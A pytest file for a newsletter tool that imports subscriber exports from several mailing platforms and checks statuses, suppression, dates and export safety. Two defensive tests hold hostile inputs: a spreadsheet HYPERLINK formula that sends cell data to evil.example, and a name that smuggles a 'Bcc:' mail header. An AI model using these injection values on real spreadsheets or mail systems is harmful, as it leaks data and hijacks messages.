"""Moving in: each platform's export, as a file and as its ZIP, imported over a real SQLite file.

The fixtures in tests/fixtures/platforms/ follow each platform's documented columns, with people
who left, bounced and complained beside active ones.
"""

from __future__ import annotations

import json
import stat
import zipfile
from pathlib import Path

import pytest

from newsletter import db as store
from newsletter.platforms import RowError, parse_when

from .conftest import Cli

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "platforms"
MAILCHIMP_FILES = (
    "mailchimp_subscribed.csv",
    "mailchimp_unsubscribed.csv",
    "mailchimp_cleaned.csv",
)

A = ("active", None)
LEFT = ("unsubscribed", "import")
BOUNCED = ("bounced", "import")
COMPLAINT = ("unsubscribed", "complaint")
PENDING = ("pending", "import")

# fixture file(s) -> (platform, {email: (status, reason)}, {email: created_at}, {email: left_at})
CASES = {
    "mailchimp": (
        MAILCHIMP_FILES,
        {
            "ann@example.org": A,
            "bob@example.org": A,
            "carol@example.org": LEFT,
            "dave@example.org": COMPLAINT,
            "erin@example.org": BOUNCED,
        },
        {"ann@example.org": "2015-02-12T10:54:27+00:00"},
        {
            "carol@example.org": "2019-07-04T12:00:00+00:00",
            "erin@example.org": "2021-02-02T02:02:02+00:00",
        },
    ),
    "substack": (
        ("substack_email_list.csv",),
        {"ann@example.org": A, "bob@example.org": LEFT, "carol@example.org": A},
        {"ann@example.org": "2021-06-01T09:30:00+00:00"},
        {},
    ),
    "buttondown": (
        ("buttondown.csv",),
        {
            "ann@example.org": A,
            "bob@example.org": A,
            "carol@example.org": LEFT,
            "dave@example.org": COMPLAINT,
            "erin@example.org": BOUNCED,
            "fred@example.org": PENDING,
        },
        {"ann@example.org": "2024-03-13T00:03:09+00:00"},
        {},
    ),
    "ghost": (
        ("ghost_members.csv",),
        {"ann@example.org": A, "bob@example.org": LEFT, "carol@example.org": LEFT},
        {"ann@example.org": "2015-03-16T14:40:47+00:00"},
        {"carol@example.org": "2023-05-06T07:08:09+00:00"},
    ),
    "listmonk": (
        ("listmonk_export.csv",),
        {"ann@example.org": A, "bob@example.org": LEFT, "carol@example.org": COMPLAINT},
        {"ann@example.org": "2024-01-02T15:04:05+00:00"},
        {},
    ),
    "listmonk-import-format": (
        ("listmonk_import.csv",),
        {"ann@example.org": A, "bob@example.org": A},
        {},
        {},
    ),
    "beehiiv": (
        ("beehiiv.csv",),
        {"ann@example.org": A, "bob@example.org": LEFT, "carol@example.org": PENDING},
        {"ann@example.org": "2023-03-24T10:23:10+00:00"},
        {"bob@example.org": "2024-01-01T09:00:00+00:00"},
    ),
    "kit": (
        ("kit.csv",),
        {
            "ann@example.org": A,
            "bob@example.org": LEFT,
            "carol@example.org": BOUNCED,
            "dave@example.org": COMPLAINT,
            "erin@example.org": LEFT,
        },
        {"ann@example.org": "2023-02-17T11:43:55+00:00"},
        {},
    ),
    "mailerlite": (
        ("mailerlite.csv",),
        {
            "ann@example.org": A,
            "bob@example.org": LEFT,
            "carol@example.org": PENDING,
            "dave@example.org": BOUNCED,
            "erin@example.org": COMPLAINT,
        },
        {"ann@example.org": "2022-05-01T08:00:00+00:00"},
        {},
    ),
}
PLATFORM = {"listmonk-import-format": "listmonk"}
# The platforms that hand out a ZIP: Mailchimp (one CSV per status) and Substack (the list
# beside posts.csv and the posts themselves).
ZIPS = {
    "mailchimp": {f"members_export_{name}": name for name in MAILCHIMP_FILES},
    "substack": {
        "email_list.my-news.csv": "substack_email_list.csv",
        "posts.csv": "substack_posts.csv",
        "posts/123456.first-post.html": None,
    },
}


def readers(project: Path) -> dict[str, store.Subscriber]:
    database = store.open_db(project / "newsletter.db")
    try:
        return {s.email: s for s in store.iter_subscribers(database, "all")}
    finally:
        database.close()


def fixture_input(tmp_path: Path, case: str, as_zip: bool) -> list[Path]:
    files = CASES[case][0]
    if not as_zip:
        return [FIXTURES / name for name in files]
    archive = tmp_path / f"{case}-export.zip"
    with zipfile.ZipFile(archive, "w") as out:
        for member, source in ZIPS[case].items():
            out.writestr(member, (FIXTURES / source).read_bytes() if source else "<p>post</p>")
    return [archive]


@pytest.mark.parametrize(
    ("case", "as_zip"),
    [(case, False) for case in CASES] + [(case, True) for case in ZIPS],
    ids=[case for case in CASES] + [f"{case}-zip" for case in ZIPS],
)
def test_platform_export_brings_everyone_with_their_status(
    cli: Cli, project: Path, tmp_path: Path, case: str, as_zip: bool
) -> None:
    _, expected, joined, left = CASES[case]
    for path in fixture_input(tmp_path, case, as_zip):
        cli("subscribers", "import", str(path))
    found = readers(project)
    assert {email: (s.status, s.status_reason) for email, s in found.items()} == expected
    platform = PLATFORM.get(case, case)
    assert {s.platform for s in found.values()} == {platform}
    for email, when in joined.items():
        assert found[email].created_at == when
    for email, when in left.items():
        assert found[email].left_at == when
        assert found[email].status_changed_at == when
    # Nobody who left, bounced or complained would be mailed; every active person would.
    database = store.open_db(project / "newsletter.db")
    due = {s.email for s in store.iter_due(database, "any-post")}
    database.close()
    assert due == {email for email, (status, _) in expected.items() if status == "active"}

    before = readers(project)
    for path in fixture_input(tmp_path, case, as_zip):
        again = cli("subscribers", "import", str(path))
        assert again.stdout.startswith("Added 0 active, 0 unsubscribed, 0 bounced; kept ")
    assert readers(project) == before  # a second import changes nothing


def test_mailchimp_zip_summary_and_substack_deletion_requests(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    (mailchimp,) = fixture_input(tmp_path, "mailchimp", True)
    dry = cli("subscribers", "import", str(mailchimp), "--dry-run")
    assert dry.stdout == (
        "Would add 2 active, 2 unsubscribed, 1 bounced; kept 0 already on the list; rejected 0\n"
    )
    assert readers(project) == {}
    (substack,) = fixture_input(tmp_path, "substack", True)
    result = cli("subscribers", "import", str(substack))
    assert result.stdout == (
        "Added 2 active, 1 unsubscribed, 0 bounced; kept 0 already on the list; "
        "skipped 1 Substack deletion requests; rejected 0\n"
    )
    assert "posts.csv: no email column, skipped" in result.stderr
    assert not any("deletion-request" in email for email in readers(project))


def test_leaving_wins_and_joining_never_revives(cli: Cli, project: Path) -> None:
    cli("subscribers", "add", "carol@example.org")  # active here, left on Mailchimp
    cli("subscribers", "add", "ann@example.org")
    cli("subscribers", "remove", "ann@example.org")  # left here, active on Mailchimp
    for name in MAILCHIMP_FILES:
        result = cli("subscribers", "import", str(FIXTURES / name))
        if name == "mailchimp_unsubscribed.csv":
            assert result.stdout == (
                "Added 0 active, 1 unsubscribed, 0 bounced; marked 1 who left there as left "
                "here; kept 0 already on the list; rejected 0\n"
            )
    found = readers(project)
    assert (found["carol@example.org"].status, found["carol@example.org"].status_reason) == LEFT
    assert found["carol@example.org"].left_at == "2019-07-04T12:00:00+00:00"
    assert (found["ann@example.org"].status, found["ann@example.org"].status_reason) == (
        "unsubscribed",
        "author",
    )


def test_a_name_that_cannot_go_in_a_header_is_mended_and_the_row_kept(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    """Someone who left must stay suppressed whatever their name holds."""
    listing = tmp_path / "names.csv"
    listing.write_text(
        "email,name,status\n"
        "zwj@example.org,Ann \u200d\U0001f4bb,unsubscribed\n"  # an emoji sequence: kept whole
        "rlm@example.org,Bo\u200f Bell,unsubscribed\n"  # a direction mark: mended
        'eve@example.org,"Eve\r\nBcc: x@example.org",unsubscribed\n'  # a header break: mended
    )
    result = cli("subscribers", "import", str(listing))
    assert "Added 0 active, 3 unsubscribed" in result.stdout and "rejected 0" in result.stdout
    found = readers(project)
    assert found["zwj@example.org"].name == "Ann \u200d\U0001f4bb"
    assert found["rlm@example.org"].name == "Bo Bell"
    assert found["eve@example.org"].name == "Eve Bcc: x@example.org"
    assert {found[a].status for a in found} == {"unsubscribed"}


def test_leaving_anywhere_in_an_import_wins(cli: Cli, project: Path, tmp_path: Path) -> None:
    """An export of two audiences: subscribed in one, unsubscribed from the other."""
    archive = tmp_path / "account-export.zip"
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr(
            "audience-a/subscribed.csv", (FIXTURES / "mailchimp_subscribed.csv").read_bytes()
        )
        unsubscribed = (FIXTURES / "mailchimp_unsubscribed.csv").read_text()
        out.writestr("audience-b/unsubscribed.csv", unsubscribed.replace("carol@", "ann@"))
    result = cli("subscribers", "import", str(archive))
    assert result.stdout == (
        "Added 2 active, 1 unsubscribed, 0 bounced; marked 1 who left there as left here; "
        "kept 0 already on the list; rejected 0\n"
    )
    found = readers(project)
    assert (found["ann@example.org"].status, found["bob@example.org"].status) == (
        "unsubscribed",
        "active",
    )
    again = cli("subscribers", "import", str(archive))
    assert "marked" not in again.stdout and again.stdout.endswith("rejected 0\n")
    assert readers(project) == found


def test_suppressed_rows_come_back_only_by_the_authors_explicit_resubscribe(
    cli: Cli, project: Path
) -> None:
    cli("subscribers", "import", str(FIXTURES / "kit.csv"))
    refused = cli("subscribers", "add", "dave@example.org", ok=False)  # complained on Kit
    assert refused.exit_code == 1
    assert refused.stderr == (
        f"Error: dave@example.org is unsubscribed (since {readers(project)['dave@example.org'].status_changed_at[:10]}); "
        "only with their fresh consent: newsletter subscribers add dave@example.org --resubscribe\n"
    )
    assert readers(project)["dave@example.org"].status == "unsubscribed"
    done = cli("subscribers", "add", "dave@example.org", "--resubscribe")
    assert done.stdout.startswith("Resubscribed dave@example.org (recorded as your action, 20")
    dave = readers(project)["dave@example.org"]
    assert (dave.status, dave.status_reason) == ("active", "author")


def test_pending_readers_are_not_mailed_until_they_confirm(cli: Cli, project: Path) -> None:
    cli("subscribers", "import", str(FIXTURES / "beehiiv.csv"))
    result = cli("send", "--yes")
    assert "to 1 of 1 active readers" in result.stdout
    assert len(list((project / "outbox" / "new").iterdir())) == 1


def test_list_json_and_export_email_show_what_the_file_knew(cli: Cli, project: Path) -> None:
    cli("subscribers", "import", str(FIXTURES / "mailchimp_subscribed.csv"))
    cli("subscribers", "import", str(FIXTURES / "mailchimp_unsubscribed.csv"))
    records = {
        r["email"]: r
        for r in map(
            json.loads, cli("subscribers", "list", "--status", "all", "--json").stdout.splitlines()
        )
    }
    ann = records["ann@example.org"]
    assert (ann["platform"], ann["optin_ip"], ann["created_at"], ann["tags"]) == (
        "mailchimp",
        "192.0.2.10",
        "2015-02-12T10:54:27+00:00",
        '"Founding reader"',
    )
    assert records["carol@example.org"]["left_at"] == "2019-07-04T12:00:00+00:00"
    person = json.loads(cli("subscribers", "export", "--email", "dave@example.org").stdout)
    assert person["subscriber"]["status_reason"] == "complaint"
    assert person["subscriber"]["platform"] == "mailchimp"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("2015-02-12 10:54:27", "2015-02-12T10:54:27+00:00"),  # Mailchimp
        ("2023-03-24 10:23:10 UTC", "2023-03-24T10:23:10+00:00"),  # beehiiv
        ("2015-03-16T14:40:47.000Z", "2015-03-16T14:40:47+00:00"),  # Ghost
        ("2024-03-13 00:03:09.183465+00:00", "2024-03-13T00:03:09+00:00"),  # Buttondown
        ("2024-01-02 15:04:05.999 +0000 UTC", "2024-01-02T15:04:05+00:00"),  # listmonk (Go)
        ("2024-01-02 17:04:05 +0200 CEST", "2024-01-02T15:04:05+00:00"),
        ("2020-01-01", "2020-01-01T00:00:00+00:00"),
    ],
)
def test_platform_dates(raw: str, expected: str) -> None:
    assert parse_when(raw) == expected


def test_a_bad_date_or_status_rejects_the_row_with_its_line(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    with pytest.raises(RowError):
        parse_when("24/03/2023")
    csv_file = tmp_path / "beehiiv.csv"
    csv_file.write_text(
        "email,status,created_at,subscription_tier\n"
        "ann@example.org,active,24/03/2023,free\n"
        "bob@example.org,sleeping,2023-03-24 10:23:10 UTC,free\n"
        "carol@example.org,active,2023-03-24 10:23:10 UTC,free\n"
    )
    result = cli("subscribers", "import", str(csv_file))
    assert result.stderr.splitlines() == [
        "Read as the export of: beehiiv",
        "line 2: the joining date '24/03/2023' is not a date",
        "line 3: unknown status 'sleeping'",
    ]
    assert result.stdout.endswith("rejected 2 (lines 2, 3)\n")
    assert set(readers(project)) == {"carol@example.org"}


def test_a_date_past_year_9999_in_utc_rejects_the_row_not_the_import(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    """9999-12-31T23:59:59-12:00 parses, and is year 10000 in UTC: a row error, not a crash."""
    exported = cli("subscribers", "export").stdout.strip()
    csv_file = tmp_path / "readers.csv"
    csv_file.write_text(
        f"{exported}\n"
        "ann@example.org,,active,cli,2026-01-01T00:00:00+00:00,,,,,,every,"
        "9999-12-31T23:59:59-12:00,\n"
        "bob@example.org,,active,cli,9999-12-31T23:30:00-01:00,,,,,,every,,\n"
        "carol@example.org,,active,cli,2026-01-01T00:00:00+00:00,,,,,,every,,\n"
    )
    result = cli("subscribers", "import", str(csv_file))
    assert result.stderr.splitlines()[-2:] == [
        "line 2: the pause's end '9999-12-31T23:59:59-12:00' is not a date that can be kept",
        "line 3: the joining date '9999-12-31T23:30:00-01:00' is not a date that can be kept",
    ]
    assert result.stdout.endswith("rejected 2 (lines 2, 3)\n")
    assert set(readers(project)) == {"carol@example.org"}


def test_import_dry_run_lists_likely_typos_and_changes_nothing(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    csv_file = tmp_path / "list.csv"
    csv_file.write_text("email\nann@gmial.com\nbob@example.org\ncarol@hotmial.com\n")
    result = cli("subscribers", "import", str(csv_file), "--dry-run")
    assert result.stderr.splitlines() == [
        "line 2: ann@gmial.com: did you mean @gmail.com? (imported as typed)",
        "line 4: carol@hotmial.com: did you mean @hotmail.com? (imported as typed)",
    ]
    assert readers(project) == {}
    cli("subscribers", "import", str(csv_file))
    assert "ann@gmial.com" in readers(project)  # flagged, never changed


def test_a_file_unreadable_after_many_batches_changes_nothing(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    csv_file = tmp_path / "long.csv"
    rows = "".join(f"reader{i}@example.org,Reader {i}\n" for i in range(5000))
    csv_file.write_bytes(b"email,name\n" + rows.encode() + b"late@example.org,\xff\n")
    result = cli("subscribers", "import", str(csv_file), ok=False)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: long.csv is not UTF-8 text (bad byte at offset ")
    assert readers(project) == {}


def test_a_repeat_across_batches_is_rejected_once(cli: Cli, project: Path, tmp_path: Path) -> None:
    csv_file = tmp_path / "long.csv"
    rows = "".join(f"reader{i}@example.org\n" for i in range(4500))
    csv_file.write_text("email\n" + rows + "READER7@example.org\n")
    result = cli("subscribers", "import", str(csv_file))
    assert result.stdout == (
        "Added 4500 active, 0 unsubscribed, 0 bounced; kept 0 already on the list; rejected 1 (line 4502)\n"
    )
    assert result.stderr == "line 4502: READER7@example.org appears earlier in the import\n"


def test_export_neutralises_formulas_and_import_takes_them_back(
    cli: Cli, project: Path, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    cli("subscribers", "add", "ann@example.org", "--name", formula)
    cli("subscribers", "add", "--name", "+44 113 496 0000", "--", "-bob@example.org")
    cli("subscribers", "add", "carol@example.org", "--name", "@carol")
    out = tmp_path / "readers.csv"
    cli("subscribers", "export", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    text = out.read_text()
    assert "'=HYPERLINK(" in text and "'-bob@example.org" in text and "'+44" in text
    assert "'@carol" in text
    for line in text.splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@")) and ",=" not in line and ",@" not in line
    other = tmp_path / "other"
    (other / "posts").mkdir(parents=True)
    Cli(other, cli.runner)("subscribers", "import", str(out))
    names = {email: s.name for email, s in readers(other).items()}
    assert names == {
        "ann@example.org": formula,
        "-bob@example.org": "+44 113 496 0000",
        "carol@example.org": "@carol",
    }
    person = tmp_path / "ann.json"
    cli("subscribers", "export", "--email", "ann@example.org", str(person))
    assert stat.S_IMODE(person.stat().st_mode) == 0o600
